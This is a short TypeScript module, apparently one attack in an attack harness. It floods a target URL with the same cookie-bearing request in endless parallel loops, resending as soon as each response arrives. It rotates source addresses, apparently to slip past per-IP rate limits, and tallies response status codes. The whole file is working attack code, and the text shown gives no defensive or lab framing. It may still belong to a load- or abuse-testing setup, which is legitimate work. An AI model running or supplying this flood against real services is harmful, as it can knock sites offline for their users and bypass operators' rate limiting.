import { Agent } from 'node:http';
import { ask } from '../ask.ts';
import { runAttack } from './attacker-process.ts';

export interface RepeatRequestsOptions {
  url: string;
  cookie: string;
  /** How many requests are in flight at any time. */
  parallel: number;
  /** Local addresses, taken in turn. */
  addresses: string[];
}

/** Sends the same request again as soon as it has its response, several at a time; counts the responses by status. */
await runAttack<RepeatRequestsOptions>(async ({ url, cookie, parallel, addresses }, count) => {
  const agent = new Agent({ keepAlive: true });
  const repeat = async (localAddress: string): Promise<never> => {
    for (;;) count(`status ${(await ask(url, { cookie, localAddress, agent })).status}`);
  };
  for (let started = 0; started < parallel; started += 1) {
    void repeat(addresses[started % addresses.length] ?? '127.0.0.1');
  }
});
